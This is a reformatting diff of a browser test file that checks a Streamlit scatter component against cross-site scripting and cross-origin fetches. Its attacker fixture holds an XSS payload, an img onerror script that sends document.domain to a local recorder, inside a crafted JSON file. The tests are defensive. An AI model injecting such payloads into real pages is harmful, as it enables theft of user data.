@@ -14,7 +14,7 @@ import pytest
 
 from tests.browser import Recorder, screenshots_dir, settle, snap
 
-NAME = 'Tiny <i>net</i> & "co" <img src=x>'          # drawn as these characters, not as markup
+NAME = 'Tiny <i>net</i> & "co" <img src=x>'  # drawn as these characters, not as markup
 
 
 @pytest.fixture(scope="module")
@@ -28,8 +28,9 @@ def home(tmp_path_factory):
     home = tmp_path_factory.mktemp("component-home")
     arch = ArchSpec(name="mlp", in_shape=(1, 8, 8), num_classes=10, mean=(0.3,), std=(0.3,), widths=(16,))
     torch.manual_seed(0)
-    rec = import_model(build_model(arch), arch, NAME, DataSpec(name="digits"), tuple("0123456789"), "test",
-                       root=home / "runs")
+    rec = import_model(
+        build_model(arch), arch, NAME, DataSpec(name="digits"), tuple("0123456789"), "test", root=home / "runs"
+    )
     home.joinpath("run_id").write_text(rec["run_id"])
     return home
 
@@ -38,11 +39,17 @@ def home(tmp_path_factory):
 def attacker():
     with Recorder() as rec:
         script = f"new Image().src='{rec.url}/pwned?'+encodeURIComponent(document.domain)"
-        evil = f"<img src=x onerror=\"{script}\">"
-        rec.pages["/evil.json"] = json.dumps({
-            "figure": {"data": [], "layout": {}}, "points": {"index": [0], "x": [0], "y": [0], "caption": [evil]},
-            "sprite": {"url": f"{rec.url}/sprite.png", "columns": 1, "tile": [8, 8], "indices": [0]},
-            "dataset": "x", "hint": evil, "title": evil})
+        evil = f'<img src=x onerror="{script}">'
+        rec.pages["/evil.json"] = json.dumps(
+            {
+                "figure": {"data": [], "layout": {}},
+                "points": {"index": [0], "x": [0], "y": [0], "caption": [evil]},
+                "sprite": {"url": f"{rec.url}/sprite.png", "columns": 1, "tile": [8, 8], "indices": [0]},
+                "dataset": "x",
+                "hint": evil,
+                "title": evil,
+            }
+        )
         yield rec
 
 
@@ -126,7 +133,9 @@ def test_even_its_own_page_cannot_point_it_at_another_origin(page, server, home,
     attacker.requests.clear()
     page.locator("iframe[src*='hover_scatter']").evaluate(
         """(el, url) => el.contentWindow.postMessage({isStreamlitMessage: true, type: "streamlit:render",
-               args: {panels: [url + "/evil.json"], height: 200}}, "*")""", attacker.url)
+               args: {panels: [url + "/evil.json"], height: 200}}, "*")""",
+        attacker.url,
+    )
     page.wait_for_timeout(3000)
     assert attacker.hits() == [], f"the component fetched from another origin: {attacker.hits()}"
     assert frame.locator(".title img").count() == 0
